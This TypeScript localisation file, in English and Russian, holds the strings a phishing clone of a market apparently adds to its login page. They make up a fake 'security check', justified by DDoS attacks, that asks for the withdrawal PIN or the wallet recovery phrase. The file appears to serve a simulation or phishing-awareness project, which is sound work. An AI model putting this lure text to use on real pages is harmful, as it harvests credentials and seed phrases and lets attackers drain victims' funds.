// What a phishing clone adds to the real market's pages, in both languages: the "security check"
// on its login form that asks for what no real market asks for at login (the withdrawal PIN, the
// wallet's recovery phrase). Written by hand.
import type { Dictionaries } from '../kit/i18n.ts';

export const PHISHING_STRINGS: Dictionaries = {
  en: {
    'phish.check.title': 'Security check',
    'phish.check.text': 'After the recent DDoS attacks every login must be confirmed. Enter your withdrawal PIN, or your 12-word wallet recovery phrase if you have not set a PIN.',
    'phish.pin': 'Withdrawal PIN',
    'phish.pin.pattern': '{field}: 4 to 8 digits.',
    'phish.mnemonic': 'Recovery phrase (12 or 24 words)',
    'phish.mnemonic.pattern': '{field}: 12 or 24 words, separated by spaces.',
    'phish.check.missing': 'Confirm the login with your withdrawal PIN or your recovery phrase.',
  },
  ru: {
    'phish.check.title': 'Проверка безопасности',
    'phish.check.text': 'После недавних DDoS-атак каждый вход нужно подтвердить. Введите PIN-код для вывода средств или, если PIN не задан, фразу восстановления кошелька из 12 слов.',
    'phish.pin': 'PIN-код для вывода',
    'phish.pin.pattern': '{field}: от 4 до 8 цифр.',
    'phish.mnemonic': 'Фраза восстановления (12 или 24 слова)',
    'phish.mnemonic.pattern': '{field}: 12 или 24 слова через пробел.',
    'phish.check.missing': 'Подтвердите вход PIN-кодом для вывода или фразой восстановления.',
  },
};
